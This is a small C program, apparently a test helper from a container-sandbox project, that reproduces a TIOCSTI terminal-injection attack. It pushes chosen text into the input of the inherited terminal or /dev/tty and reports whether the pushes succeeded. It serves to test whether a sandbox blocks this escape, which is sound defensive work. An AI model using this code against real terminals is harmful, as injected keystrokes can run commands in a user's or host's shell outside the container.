/* SPDX-License-Identifier: GPL-2.0-or-later */
/* tiocsti [-t] TEXT: the attack of issue 10 item 3, run inside a container. Pushes each byte of
 * TEXT into the input of a terminal with TIOCSTI: of fd 0, 1 and 2 (whichever is a terminal), or
 * with -t of /dev/tty (the controlling terminal, even when no fd of it was passed). Prints what
 * happened on each target to stderr (or, when that is a terminal, nowhere). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static int push(int fd, const char *text)
{
	for (const char *p = text; *p; p++)
		if (ioctl(fd, TIOCSTI, p) < 0)
			return -errno;
	return 0;
}

int main(int argc, char **argv)
{
	int devtty = argc > 2 && strcmp(argv[1], "-t") == 0;
	const char *text = argv[argc - 1];
	if (argc < 2)
		return 2;
	int done = 0;
	if (devtty) {
		int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
		if (fd < 0) {
			dprintf(2, "tiocsti: open /dev/tty: %s\n", strerror(errno));
			return 1;
		}
		int r = push(fd, text);
		dprintf(2, "tiocsti: /dev/tty: %s\n", r ? strerror(-r) : "pushed");
		return r ? 1 : 0;
	}
	for (int fd = 0; fd < 3; fd++) {
		if (!isatty(fd))
			continue;
		int r = push(fd, text);
		if (!isatty(2))
			dprintf(2, "tiocsti: fd %d: %s\n", fd, r ? strerror(-r) : "pushed");
		if (r == 0)
			done = 1;
	}
	return done ? 0 : 1;
}
